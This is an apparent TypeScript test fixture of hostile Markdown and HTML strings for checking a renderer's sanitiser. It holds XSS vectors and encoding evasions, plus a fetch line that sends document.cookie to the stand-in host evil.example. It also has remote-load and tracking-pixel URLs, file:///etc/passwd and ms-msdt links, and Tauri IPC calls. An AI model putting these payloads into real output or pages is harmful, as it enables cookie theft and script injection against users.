/** Text that a model could be made to write, each piece meant to run, load, lead or mislead. For tests only. */

const scripts = [
  'alert(1)',
  'fetch("//evil.example/?"+document.cookie)',
  'window.__TAURI_INTERNALS__.invoke("stop")',
];
const events = [
  'onerror',
  'onload',
  'onclick',
  'onmouseover',
  'onfocus',
  'ontoggle',
  'onanimationstart',
  'onbegin',
];

const html = scripts.flatMap((script) => [
  `<script>${script}</script>`,
  `<ScRiPt>${script}</sCrIpT>`,
  `<script src="https://evil.example/x.js"></script>`,
  `<img src=x onerror='${script}'>`,
  `<svg onload='${script}'>`,
  `<svg><script>${script}</script></svg>`,
  `<svg><animate onbegin='${script}' attributeName=x dur=1s>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror='${script}'>">`,
  `<iframe srcdoc="<script>${script}</script>"></iframe>`,
  `<object data="javascript:${script}"></object>`,
  `<embed src="javascript:${script}">`,
  `<details open ontoggle='${script}'>x</details>`,
  `<a href="javascript:${script}">x</a>`,
  `<form action="javascript:${script}"><button>x</button></form>`,
  `<noscript><p title="</noscript><img src=x onerror='${script}'>">`,
]);

const handlers = events.flatMap((event) => [
  `<b ${event}="alert(1)">x</b>`,
  `<video ${event}=alert(1) src=x></video>`,
  `**<input autofocus ${event}=alert(1)>**`,
]);

const addresses = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'java\tscript:alert(1)',
  'java&#115;cript:alert(1)',
  'javascript&colon;alert(1)',
  '&#x6A;avascript:alert(1)',
  '\u0001javascript:alert(1)',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'file:///etc/passwd',
  'blob:https://evil.example/1',
  'tauri://localhost/',
  'ipc://localhost/stop',
  'ms-msdt:/id%20PCWDiagnostic',
  'smb://evil.example/share',
  '//evil.example/x',
  'about:blank',
];

const links = addresses.flatMap((url) => [
  `[x](${url})`,
  `[x](<${url}>)`,
  `<${url}>`,
  `[x][y]\n\n[y]: ${url}`,
]);
const images = [...addresses, 'https://evil.example/pixel.png', 'http://evil.example/p.gif?secret'].flatMap(
  (url) => [`![x](${url})`, `![x](<${url}> "t")`],
);

const remote = [
  '<img src="https://evil.example/p.png">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<div style="background:url(https://evil.example/p.png)">x</div>',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<video src="https://evil.example/v.mp4" poster="https://evil.example/p.png"></video>',
  '<audio src="https://evil.example/a.mp3"></audio>',
  '<picture><source srcset="https://evil.example/p.png"></picture>',
  '<input type=image src="https://evil.example/p.png">',
  '[![x](https://evil.example/p.png)](https://evil.example)',
  '![][p]\n\n[p]: https://evil.example/p.png',
];

const breakouts = [
  '```"><img src=x onerror=alert(1)>\ncode\n```',
  '```js onload=alert(1)\n</code></pre><script>alert(1)</script>\n```',
  '```html\n<script>alert(1)</script>\n```',
  '```xml\n<svg onload=alert(1)>\n```',
  '`</code><script>alert(1)</script>`',
  '    </code></pre><img src=x onerror=alert(1)>',
  '| <img src=x onerror=alert(1)> |\n| --- |\n| <script>alert(1)</script> |',
  '[x](https://a.example" onclick="alert(1))',
  "[x](https://a.example' onclick='alert(1))",
  '[x](https://a.example/"><script>alert(1)</script>)',
  '[<img src=x onerror=alert(1)>](https://a.example)',
  '![" onerror="alert(1)](https://a.example)',
  'https://a.example/"onmouseover="alert(1)',
  '1. <script>\n2. alert(1)\n3. </script>',
  '> <svg/onload=alert(1)>',
  '# <img src=x onerror=alert(1)>',
  '<!-- --><script>alert(1)</script><!-- -->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\u0000<scr\u0000ipt>alert(1)</script>',
  '<a id=__proto__><a id=constructor name=prototype>',
  '<form id=attributes><input name=nodeName>',
];

export const hostile = [...html, ...handlers, ...links, ...images, ...remote, ...breakouts];
